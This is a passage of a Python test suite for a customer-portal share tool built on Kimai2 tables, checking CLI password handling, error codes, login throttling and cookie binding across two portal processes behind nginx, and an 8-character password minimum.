    assert 'spt-password' in fx.n.get(url, headers=hdrs).text
    assert fx.n.post(url, {'spt-password': 'cli pass wörd'}, headers=hdrs).status == 303
    assert 'yes' in [ln for ln in run_cli(fx, 'list').stdout.splitlines()
                     if ln.startswith(sid + '\t')][0].split('\t')[4]
    # An empty line removes it.
    r = run_cli(fx, 'set-password', sid, stdin='\n')
    assert r.returncode == 0, r.stderr
    assert val(fx, f'SELECT password FROM kimai2_customer_portals WHERE id = {sid}') == 'NULL'
    assert 'spt-password' not in fx.n.get(url, headers=client()).text
    # Too long: refused, nothing stored.
    r = run_cli(fx, 'set-password', sid, stdin='x' * 5000 + '\n')
    assert r.returncode == 2
    assert val(fx, f'SELECT password FROM kimai2_customer_portals WHERE id = {sid}') == 'NULL'


def test_cli_errors(fx):
    cases = [
        (('create',), 2), (('create', '--project', '51', '--customer', '50'), 2),
        (('create', '--project', 'x'), 2), (('create', '--project', '999999'), 1),
        (('create', '--customer', '50', '--merge', 'ALL'), 2),
        (('create', '--customer', '50', '--expires', '2026-02-29'), 2),
        (('create', '--customer', '50', '--window-from', '2026-05', '--window-to', '2026-04'), 2),
        (('create', '--customer', '50', '--frobnicate'), 2),
        (('rotate',), 2), (('rotate', '0'), 2), (('rotate', '99999'), 1),
        (('delete', '99999'), 1), (('set-password', 'abc'), 1), (('set-password', 'a-b'), 2),
        (('frob',), 2), ((), 2),
    ]
    before = val(fx, 'SELECT COUNT(*) FROM kimai2_customer_portals')
    for args, rc in cases:
        r = run_cli(fx, *args)
        assert r.returncode == rc, (args, r.returncode, r.stdout, r.stderr)
        assert r.stderr.startswith('portal share: ') or 'Usage' in r.stderr, (args, r.stderr)
    assert val(fx, 'SELECT COUNT(*) FROM kimai2_customer_portals') == before
    r = run_cli(fx, '--help')
    assert r.returncode == 0 and 'set-password ID' in r.stdout
    # A bad database URL: a clear message, exit 1.
    r = subprocess.run([str(harness.binary('portal')), '--database-url',
                        fx.m.url(fx.db, password='wrong'), 'share', 'list'],
                       capture_output=True, text=True, timeout=60,
                       env={k: v for k, v in os.environ.items() if k != 'PORTAL_SECRET'})
    assert r.returncode == 1 and r.stderr.startswith('portal share: '), r.stderr


# --------------------------------------------------------------------------------------
# scale-out: two portal processes behind one nginx upstream

def fcgi(p, method, path_, query='', body=b'', headers=None, addr='192.0.2.77'):
    h = dict(headers or {})
    if body:
        h['Content-Type'] = 'application/x-www-form-urlencoded'
    return harness.fcgi_request(p.socket, method, path_, query, body, h,
                                params={'REMOTE_ADDR': addr})


def test_two_portals_behind_one_upstream_share_only_db_and_secret(fx):
    p1 = fx.env.portal(fx.url, secret=fx.secret, workers=2)
    p2 = fx.env.portal(fx.url, secret=fx.secret, workers=2)
    n = fx.env.nginx(p1, p2)
    conf = n.conf.read_text()
    assert f'server unix:{p1.socket};' in conf and f'server unix:{p2.socket};' in conf
    key = add_share(fx.m, fx.db, customer=GEN)
    sid = share_id(fx, key)
    sql(fx, f"UPDATE kimai2_customer_portals SET password = '{bcrypt('both')}' WHERE id = {sid}")
    # Throttling lives in the database: failures on either process add up.
    addr = '192.0.2.91'
    wrong = urllib.parse.urlencode({'spt-password': 'nope'}).encode()
    for i in range(10):
        r = fcgi(p1 if i % 2 else p2, 'POST', path(key), body=wrong, addr=addr)
        assert r.status == 200, (i, r.status)
    for p in (p1, p2):
        assert fcgi(p, 'POST', path(key), body=wrong, addr=addr).status == 429
    # A cookie made by one process opens the share on the other.
    ok = urllib.parse.urlencode({'spt-password': 'both'}).encode()
    r = fcgi(p1, 'POST', path(key), body=ok, addr='192.0.2.92')
    assert r.status == 303
    cookie, _ = cookie_of(r, sid)
    jar = f'portal_unlock_{sid}={cookie}'
    r = fcgi(p2, 'GET', path(key), 'year=2026&month=4', headers={'Cookie': jar})
    assert r.status == 200 and b'id="share-name">Gen GmbH<' in r.body
    # Through the one nginx: every request answers, whichever process takes it.
    for _ in range(8):
        r = n.get(path(key) + '?year=2026&month=4', cookies={f'portal_unlock_{sid}': cookie})
        assert r.status == 200 and 'Gen GmbH' in r.text
    # Views of both processes end up in the one row.
    harness.wait_until(lambda: views(fx, sid) and views(fx, sid)[0][0] == '9',
                       VIEWS_FLUSH_S * 3, interval=0.25, what='views of both processes')
    # Proof that the secret is what binds the cookie: a portal with another one refuses it.
    p3 = fx.env.portal(fx.url, secret=secrets.token_hex(32), workers=1)
    r = fcgi(p3, 'GET', path(key), headers={'Cookie': jar})
    assert r.status == 200 and b'spt-password' in r.body and b'Gen GmbH' not in r.body
    p3.stop()


def test_cli_set_password_needs_8_characters(fx):
    # issue 17: new share passwords have at least 8 characters; stored ones keep working.
    r = run_cli(fx, 'create', '--project', str(ALPHA))
    assert r.returncode == 0, r.stderr
    sid, key, url = r.stdout.rstrip('\n').split('\t')
    for short in ('1234567', 'äöüßéèà', 'x'):
        r = run_cli(fx, 'set-password', sid, stdin=short + '\n')
        assert r.returncode == 2, (short, r.returncode)
        assert 'at least 8 characters' in r.stderr, r.stderr
        assert val(fx, f'SELECT password FROM kimai2_customer_portals WHERE id = {sid}') == 'NULL'
    r = run_cli(fx, 'set-password', sid, stdin='äöüßéèàñ\n')
    assert r.returncode == 0, r.stderr
    hdrs = client()
    assert fx.n.post(url, {'spt-password': 'äöüßéèàñ'}, headers=hdrs).status == 303
    # A short password set before (here: bcrypt as PHP writes it) still unlocks.
    h = bcrypt("short", cost=4)
    fx.m.sql(fx.db, f"UPDATE kimai2_customer_portals SET password = '{h}' WHERE id = {sid}")
    assert fx.n.post(url, {'spt-password': 'short'}, headers=client()).status == 303
